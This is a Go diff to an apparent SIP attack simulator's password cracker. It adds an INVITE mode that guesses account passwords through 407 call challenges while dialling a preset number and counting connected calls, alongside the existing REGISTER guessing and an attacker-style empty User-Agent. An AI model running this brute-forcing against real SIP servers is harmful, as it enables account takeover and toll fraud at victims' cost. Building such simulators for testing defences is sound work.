@@ -19,6 +19,12 @@ type Cracker struct {
 	// UserAgent is sent in every request; empty means none, as a careful
 	// attacker would do.
 	UserAgent string
+	// Method is REGISTER (default; svcrack) or INVITE: guessing through
+	// the call challenge (407), dialling Number.
+	Method string
+	// Number is the number an INVITE guess dials; empty means
+	// "00441632960123".
+	Number string
 }
 
 // Run tries the passwords and reports the answers; Found holds the
@@ -32,12 +38,22 @@ func (c Cracker) Run(ctx context.Context) (AttackReport, error) {
 	}
 	defer p.Close()
 	domain := domainOr(c.Domain, c.Target)
-	uri := "sip:" + domain
+	method, uri, to := "REGISTER", "sip:"+domain, c.Account
+	if c.Method == "INVITE" {
+		to = c.Number
+		if to == "" {
+			to = "00441632960123"
+		}
+		method, uri = "INVITE", "sip:"+to+"@"+domain
+	}
 	callID := randHex(12)
 	cseq := 0
 	for _, pw := range c.Passwords {
 		cseq++
-		req := rawRequest{Method: "REGISTER", URI: uri, FromUser: c.Account, ToUser: c.Account,
+		if method == "INVITE" {
+			callID = randHex(12) // a new call per guess
+		}
+		req := rawRequest{Method: method, URI: uri, FromUser: c.Account, ToUser: to,
 			Domain: domain, UserAgent: c.UserAgent, CallID: callID, CSeq: cseq}
 		res, err := p.exchange(ctx, req, c.timeout())
 		code := statusCode(res)
@@ -48,8 +64,8 @@ func (c Cracker) Run(ctx context.Context) (AttackReport, error) {
 		if stop {
 			break
 		}
-		if code == 401 {
-			auth, err := authorization(res, "REGISTER", uri, c.Account, pw)
+		if code == 401 || code == 407 {
+			auth, err := authorization(res, method, uri, c.Account, pw)
 			if err != nil {
 				return t.done(), fmt.Errorf("sim: cracker: %w", err)
 			}
@@ -63,6 +79,9 @@ func (c Cracker) Run(ctx context.Context) (AttackReport, error) {
 			}
 			if code == 200 {
 				t.r.Found = append(t.r.Found, pw)
+				if method == "INVITE" {
+					t.r.Connected++
+				}
 				break
 			}
 			if stop {
